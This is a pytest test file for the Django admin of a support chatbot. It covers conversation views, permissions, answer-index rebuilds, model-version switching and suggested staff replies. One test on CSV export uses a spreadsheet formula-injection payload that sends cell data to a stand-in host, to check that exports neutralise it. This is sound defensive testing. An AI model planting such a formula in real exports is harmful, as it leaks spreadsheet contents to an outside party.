"""Django admin shows every turn with what the bot decided."""

from __future__ import annotations

import uuid

import pytest
from django.test import Client
from django.urls import reverse

from chatbot.models import (
    AnswerTemplate,
    Conversation,
    Intent,
    IntentExample,
    Message,
    ModelVersion,
)


@pytest.fixture
def conversation(db) -> Conversation:
    intent = Intent.objects.create(name="order_status", description="Where is my order")
    template = AnswerTemplate.objects.create(intent=intent, text="Track it under My orders.")
    IntentExample.objects.create(intent=intent, text="where is my parcel")
    ModelVersion.objects.create(directory="/tmp/m1", base_model="minilm", kind="full")
    conversation = Conversation.objects.create(status=Conversation.Status.BOT)
    question = Message.objects.create(
        conversation=conversation, role="customer", text="Where is my blue teapot?"
    )
    Message.objects.create(
        conversation=conversation,
        role="bot",
        text=template.text,
        in_reply_to=question,
        decision="answer",
        intent=intent,
        confidence=0.87,
        top_k=[{"intent": "order_status", "score": 0.87}],
        template=template,
        template_similarity=0.61,
        index_version="20261123T000000-abcdef",
        latency_ms=12.5,
    )
    Conversation.objects.create(status=Conversation.Status.CLOSED)
    return conversation


@pytest.mark.parametrize(
    "model", [Conversation, Message, Intent, IntentExample, AnswerTemplate, ModelVersion]
)
def test_every_model_has_a_working_admin(admin_client: Client, conversation, model) -> None:
    meta = model._meta
    changelist = admin_client.get(reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist"))
    obj = model.objects.first()
    change = admin_client.get(
        reverse(f"admin:{meta.app_label}_{meta.model_name}_change", args=[obj.pk])
    )

    assert changelist.status_code == 200
    assert change.status_code == 200


def test_conversation_page_shows_each_turn_and_why(admin_client: Client, conversation) -> None:
    page = admin_client.get(
        reverse("admin:chatbot_conversation_change", args=[conversation.pk])
    ).content.decode()

    assert "Where is my blue teapot?" in page
    assert "Track it under My orders." in page
    assert "order_status" in page and "0.87" in page and "12.5" in page


def test_bot_message_page_shows_the_decision(admin_client: Client, conversation) -> None:
    bot = conversation.messages.get(role="bot")

    page = admin_client.get(reverse("admin:chatbot_message_change", args=[bot.pk])).content.decode()

    assert "Why the bot said this" in page
    assert "20261123T000000-abcdef" in page and "0.61" in page


def test_conversations_are_searchable_by_text_and_filterable_by_status(
    admin_client: Client, conversation
) -> None:
    url = reverse("admin:chatbot_conversation_changelist")

    found = admin_client.get(url, {"q": "teapot"})
    missed = admin_client.get(url, {"q": "toaster"})
    closed = admin_client.get(url, {"status__exact": "closed"})

    assert found.context["cl"].result_count == 1
    assert found.context["cl"].result_list[0]._messages == 2  # not once per matching message
    assert missed.context["cl"].result_count == 0
    assert closed.context["cl"].result_count == 1
    assert [c.status for c in closed.context["cl"].result_list] == ["closed"]


def test_admin_action_rebuilds_the_answer_index_through_celery(
    admin_client: Client, knowledge_base: str, settings
) -> None:
    # given: an edited template, and Celery running tasks in-process
    from chatbot.celery import app
    from chatbot.runtime import get_runtime

    template = AnswerTemplate.objects.filter(intent__name="gift_card").first()
    AnswerTemplate.objects.filter(pk=template.pk).update(text="Gift cards never expire.")
    app.conf.task_always_eager = True

    # when
    try:
        response = admin_client.post(
            reverse("admin:chatbot_answertemplate_changelist"),
            {"action": "rebuild_answer_index", "_selected_action": [template.pk]},
            follow=True,
        )
    finally:
        app.conf.task_always_eager = False

    # then
    assert "being rebuilt" in response.content.decode()
    index = get_runtime().index()
    assert index.version != knowledge_base
    assert index.templates.entries[template.pk].text == "Gift cards never expire."


@pytest.mark.django_db(transaction=True)
def test_admin_makes_a_chosen_model_version_live(admin_client: Client) -> None:
    # given: two registered versions, the older one live
    from chatbot.runtime import get_runtime

    store = get_runtime().models
    old_dir, new_dir, empty_dir = (store.root / name for name in ("v-old", "v-new", "v-empty"))
    for directory in (old_dir, new_dir, empty_dir):
        directory.mkdir(parents=True)
    for directory in (old_dir, new_dir):
        (directory / "model.json").write_text("{}")
    old = ModelVersion.objects.create(
        directory=str(old_dir), base_model="m", kind="full", is_live=True
    )
    new = ModelVersion.objects.create(
        directory=str(new_dir), base_model="m", kind="lora", metrics={"validation": {}}
    )

    # when
    try:
        admin_client.post(
            reverse("admin:chatbot_modelversion_changelist"),
            {"action": "make_live", "_selected_action": [new.pk]},
        )

        # then
        old.refresh_from_db()
        new.refresh_from_db()
        assert (old.is_live, new.is_live) == (False, True)
        assert store.live() == "v-new"

        # when: a version without a model (its files gone, or a row made by hand) is chosen
        hollow = ModelVersion.objects.create(directory=str(empty_dir), base_model="m", kind="full")
        page = admin_client.post(
            reverse("admin:chatbot_modelversion_changelist"),
            {"action": "make_live", "_selected_action": [hollow.pk]},
            follow=True,
        ).content.decode()

        # then: refused, and the live model stays
        assert "it cannot be made live" in page
        assert store.live() == "v-new" and ModelVersion.objects.get(is_live=True) == new
        assert admin_client.get(reverse("admin:chatbot_modelversion_add")).status_code == 403
    finally:
        store.clear_live()


def test_editing_a_template_in_admin_republishes_the_answer_index(
    admin_client: Client, knowledge_base: str
) -> None:
    # given
    from chatbot.celery import app
    from chatbot.runtime import get_runtime

    template = AnswerTemplate.objects.filter(intent__name="opening_hours").first()
    app.conf.task_always_eager = True

    # when: an admin saves a new wording
    try:
        response = admin_client.post(
            reverse("admin:chatbot_answertemplate_change", args=[template.pk]),
            {
                "intent": template.intent_id,
                "text": "We're here every day, 07:00 to 23:00.",
                "suggestions": "[]",
                "active": "on",
            },
        )
    finally:
        app.conf.task_always_eager = False

    # then: the running process answers from a new index with the new text
    assert response.status_code == 302
    index = get_runtime().index()
    assert index.version != knowledge_base
    assert index.templates.entries[template.pk].text == "We're here every day, 07:00 to 23:00."
    assert str(template.pk) in index.info["template_versions"]


def test_a_stored_message_can_be_read_but_not_rewritten(admin_client: Client, conversation) -> None:
    message = Message.objects.filter(conversation=conversation).first()
    url = reverse("admin:chatbot_message_change", args=[message.pk])

    page = admin_client.get(url)
    posted = admin_client.post(url, {"role": "bot", "text": "something else"})

    assert page.status_code == 200 and message.text in page.content.decode()
    assert posted.status_code == 403
    assert Message.objects.get(pk=message.pk).text == message.text
    assert admin_client.get(reverse("admin:chatbot_message_add")).status_code == 403


def test_a_conversation_opens_by_the_id_the_widget_shows(
    admin_client: Client, conversation
) -> None:
    by_uuid = admin_client.get(f"/admin/chatbot/conversation/{conversation.public_id}/change/")
    by_pk = admin_client.get(f"/admin/chatbot/conversation/{conversation.pk}/change/")

    assert by_uuid.status_code == by_pk.status_code == 200
    assert by_uuid.context["original"].pk == conversation.pk
    unknown = admin_client.get(f"/admin/chatbot/conversation/{uuid.uuid4()}/change/")
    assert unknown.status_code == 302  # "does not exist", as for an unknown key


def test_conversations_start_with_customers_and_their_rating_is_theirs(
    admin_client: Client, conversation
) -> None:
    add = admin_client.get(reverse("admin:chatbot_conversation_add"))
    page = admin_client.get(reverse("admin:chatbot_conversation_change", args=[conversation.pk]))

    assert add.status_code == 403
    assert "rating" not in page.context["adminform"].form.fields


def test_a_customers_formula_is_exported_as_text(admin_client: Client, conversation) -> None:
    # given: a customer who writes a spreadsheet formula
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")'
    Message.objects.create(conversation=conversation, role="customer", text=formula)
    Message.objects.create(conversation=conversation, role="customer", text=" +1 what?")

    # when
    response = admin_client.post(
        reverse("admin:chatbot_conversation_changelist"),
        {"action": "export_csv", "_selected_action": [conversation.pk]},
    )

    # then: each such cell starts with a quote, which a spreadsheet shows instead of running
    import csv
    import io

    texts = [row["text"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert "'" + formula in texts and "' +1 what?" in texts
    assert "Where is my blue teapot?" in texts


def test_an_account_that_may_only_view_cannot_act(client: Client, conversation) -> None:
    # given: a support account with the view permissions alone
    from django.contrib.auth.models import Permission, User

    viewer = User.objects.create_user("viewer", password="pass-for-tests-1", is_staff=True)
    viewer.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
    client.force_login(viewer)
    waiting = Conversation.objects.create(status=Conversation.Status.NEEDS_HUMAN)
    question = conversation.messages.get(role="customer")
    version = ModelVersion.objects.get()

    # when: it posts every action that changes something
    posts = [
        ("conversation", "hand_back_to_bot", waiting.pk),
        ("conversation", "close_conversations", conversation.pk),
        ("reviewitem", "confirm", question.pk),
        ("reviewitem", "mark_out_of_scope", question.pk),
        ("modelversion", "make_live", version.pk),
        ("answertemplate", "rebuild_answer_index", AnswerTemplate.objects.get().pk),
    ]
    for model, action, pk in posts:
        client.post(
            reverse(f"admin:chatbot_{model}_changelist"),
            {"action": action, "_selected_action": [pk]},
        )
    page = client.get(reverse("admin:chatbot_conversation_changelist")).content.decode()

    # then: nothing changed, and only the export (reading) is offered
    waiting.refresh_from_db()
    conversation.refresh_from_db()
    question.refresh_from_db()
    version.refresh_from_db()
    assert (waiting.status, conversation.status) == ("needs_human", "bot")
    assert question.review == "" and not version.is_live
    assert "Export the selected conversations&#x27; messages as CSV" in page
    assert "hand_back_to_bot" not in page and "close_conversations" not in page


def test_the_first_admin_login_is_kept_where_only_its_user_can_read_it(
    db, settings, tmp_path, capsys
) -> None:
    from django.contrib.auth.models import User
    from django.core.management import call_command

    settings.VAR_DIR = tmp_path
    call_command("ensure_admin")
    printed = capsys.readouterr().out
    call_command("ensure_admin")  # a second start prints the same login and creates nothing

    password_file = tmp_path / "admin-password"
    password = password_file.read_text()
    assert password_file.stat().st_mode & 0o777 == 0o600
    assert f"admin / {password}" in printed
    assert f"admin / {password}" in capsys.readouterr().out
    assert User.objects.get(username="admin").check_password(password)


def test_a_reply_can_be_posted_to_a_conversation_by_the_id_the_widget_shows(
    admin_client: Client, conversation
) -> None:
    conversation.status = Conversation.Status.NEEDS_HUMAN
    conversation.save()

    by_uuid = admin_client.post(
        f"/admin/chatbot/conversation/{conversation.public_id}/reply/", {"staff_reply": "Hi!"}
    )
    unknown = admin_client.post(
        f"/admin/chatbot/conversation/{uuid.uuid4()}/reply/", {"staff_reply": "Hi?"}
    )

    assert by_uuid.status_code == 302 and unknown.status_code == 404
    assert list(conversation.messages.filter(role="agent").values_list("text", flat=True)) == [
        "Hi!"
    ]


def test_the_reply_box_suggests_the_bots_answers_to_what_the_customer_asked(
    live_policy,
    admin_client: Client,
    client: Client,
) -> None:
    import html
    import re

    from django.contrib.auth.models import Permission, User

    from chatbot.selectors import messages_awaiting_the_team

    # given: a conversation waiting for the team, whose customer asked something since the team
    # last wrote, and then asked for a person
    live_policy(answer=0.0)
    waiting = Conversation.objects.create(status=Conversation.Status.NEEDS_HUMAN)

    def said(role: str, text: str) -> Message:
        return Message.objects.create(conversation=waiting, role=role, text=text)

    said("customer", "I forgot my password")
    said("agent", "Hi, Sam here. Anything else?")
    asked = said("customer", "where is my order NW-123456?")
    person = said("customer", "can I talk to a person please")

    # then: what the customer wrote since the team last wrote awaits the team, newest first
    assert messages_awaiting_the_team(conversation=waiting, limit=3) == [person, asked]

    # when: an admin opens the conversation
    url = reverse("admin:chatbot_conversation_change", args=[waiting.pk])
    page = admin_client.get(url).content.decode()

    # then: the reply box offers the bot's answer to the question first, never "a person"
    suggested = re.findall(
        r'<li data-intent="([^"]+)">\s*<button type="button" class="button" '
        r'data-suggested-reply="([^"]*)" data-template="(\d+)">Use</button>',
        page,
    )
    intents = [intent for intent, _, _ in suggested]
    assert 1 <= len(intents) <= 3 and len(set(intents)) == len(intents)
    assert intents[0] == "order_status" and "talk_to_human" not in intents
    first = AnswerTemplate.objects.get(pk=suggested[0][2])
    assert (first.intent.name, first.text) == ("order_status", html.unescape(suggested[0][1]))

    # when: the admin sends it with the order number filled in, then a reply of their own
    # written over another suggestion
    reply = reverse("admin:chatbot_conversation_reply", args=[waiting.pk])
    filled = first.text.replace("order", "order NW-123456", 1)
    admin_client.post(reply, {"staff_reply": filled, "staff_reply_template": first.pk})
    other = AnswerTemplate.objects.get(pk=suggested[-1][2])
    admin_client.post(reply, {"staff_reply": "Sam here: on it!", "staff_reply_template": other.pk})

    # then: the first records the answer it was written from, and so its intent; not the second
    sent = Message.objects.filter(conversation=waiting, role="agent").order_by("-pk")[:2]
    assert [(m.text, m.template, m.intent) for m in reversed(sent)] == [
        (filled, first, first.intent),
        ("Sam here: on it!", None, None),
    ]

    # ... but not to someone who may only view it, nor on a closed conversation
    viewer = User.objects.create_user("viewer", password="pass-for-tests-1", is_staff=True)
    viewer.user_permissions.set(Permission.objects.filter(codename="view_conversation"))
    client.force_login(viewer)
    viewed = client.get(url)
    assert viewed.status_code == 200 and "suggested-replies" not in viewed.content.decode()
    Conversation.objects.filter(pk=waiting.pk).update(status=Conversation.Status.CLOSED)
    assert "suggested-replies" not in admin_client.get(url).content.decode()
